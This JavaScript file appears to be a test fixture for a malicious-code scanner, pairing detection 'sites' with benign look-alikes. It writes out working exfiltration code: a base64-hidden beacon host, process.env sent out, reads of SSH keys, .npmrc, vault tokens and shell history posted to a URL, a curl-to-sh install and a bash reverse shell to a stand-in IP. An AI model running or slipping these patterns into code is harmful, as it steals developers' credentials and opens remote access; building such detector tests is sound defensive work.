"use strict";
const https = require("https");
const os = require("os");
const fs = require("fs");
const path = require("path");
const cp = require("child_process");

const EDGE = Buffer.from("YjIudGVsZW1ldHJ5LWVkZ2UuZXhhbXBsZS5uZXQ=", "base64").toString();

// site of the retired js-network-at-import-time, js-hidden-destination-decoded-host (now the tree-sitter analysis')
const boot = https.request({ hostname: EDGE, path: "/v1/boot", method: "POST" });
boot.end(JSON.stringify({ host: os.hostname() }));

// site of the retired js-network-at-import-time (now the tree-sitter analysis')
fetch("https://stats.example.test/ping", { method: "POST" });
// site of the retired js-network-at-import-time (now the tree-sitter analysis')
require("https").get("https://stats.example.test/hello");
// site of the retired js-network-at-import-time (now the tree-sitter analysis')
axios.post("https://stats.example.test/hello", { v: 1 });
// look-alike of the retired js-network-at-import-time (now the tree-sitter analysis')
const api = axios.create({ baseURL: "https://api.example.test", timeout: 5000 });
// look-alike of the retired js-network-at-import-time (now the tree-sitter analysis')
const cancelled = axios.isCancel(new Error("x"));

async function flush(endpoint, snapshot) {
  const headers = { "content-type": "application/json" };
  // site of the retired js-env-sent-over-network (now the tree-sitter analysis')
  await fetch(endpoint, { method: "POST", headers, body: JSON.stringify({ counters: snapshot, context: process.env }) });
}

async function report(url) {
  const payload = Buffer.from(JSON.stringify(process.env)).toString("base64");
  // site of the retired js-env-sent-over-network (now the tree-sitter analysis')
  return https.get(url + "?d=" + payload);
}

async function ok(url, apiKey) {
  // look-alike of the retired js-env-sent-over-network (now the tree-sitter analysis')
  return fetch(url, { headers: { "x-api-key": process.env.API_KEY, other: apiKey } });
}

async function ok2() {
  const base = process.env.API_URL;
  // look-alike of the retired js-network-at-import-time (now the tree-sitter analysis')
  return fetch(`${base}/health`);
}

async function steal(url) {
  const key = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");
  // site of the retired js-credential-file-sent-over-network (now the tree-sitter analysis')
  await fetch(url, { method: "POST", body: key });
}

async function inline(url) {
  // site of the retired js-credential-file-sent-over-network (now the tree-sitter analysis')
  await fetch(url, { method: "POST", body: fs.readFileSync(os.homedir() + "/.npmrc") });
}

async function vaultToken(url) {
  // site of the retired js-credential-file-sent-over-network (now the tree-sitter analysis')
  await fetch(url, { method: "POST", body: fs.readFileSync(os.homedir() + "/.vault-token") });
}

async function shellHistory(url) {
  const history = fs.readFileSync(path.join(os.homedir(), ".bash_history"), "utf8");
  // site of the retired js-credential-file-sent-over-network (now the tree-sitter analysis')
  await fetch(url, { method: "POST", body: history });
}

async function publicKeyAndTemplate(url) {
  const pub = fs.readFileSync(os.homedir() + "/.ssh/id_ed25519.pub", "utf8");
  // look-alike of the retired js-credential-file-sent-over-network (now the tree-sitter analysis')
  await fetch(url, { method: "POST", body: pub });
  // look-alike of the retired js-credential-file-sent-over-network (now the tree-sitter analysis')
  await fetch(url, { method: "POST", body: fs.readFileSync(".env.example", "utf8") });
}

async function notCred(url) {
  const readme = fs.readFileSync("README.md", "utf8");
  // look-alike of the retired js-credential-file-sent-over-network (now the tree-sitter analysis')
  await fetch(url, { method: "POST", body: readme });
}

function runTests() {
  // look-alike of the retired js-env-sent-over-network (now the tree-sitter analysis')
  cp.execSync("npm test", { env: { ...process.env, CI: "1" }, stdio: "inherit" });
  // look-alike of the retired js-env-sent-over-network (now the tree-sitter analysis')
  return cp.spawn("node", ["server.js"], { env: process.env });
}

function install() {
  // site of the retired js-child-process-network-shell (now the tree-sitter analysis')
  cp.execSync("curl -fsSL https://x.example/i.sh | sh");
  // site of the retired js-child-process-network-shell (now the tree-sitter analysis')
  cp.spawn("bash", ["-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]);
  // look-alike of the retired js-child-process-network-shell (now the tree-sitter analysis')
  cp.execSync("git rev-parse HEAD");
}

function rawIp() {
  // site of the retired js-raw-ip-destination (now the tree-sitter analysis')
  return fetch("http://198.51.100.7/collect");
}
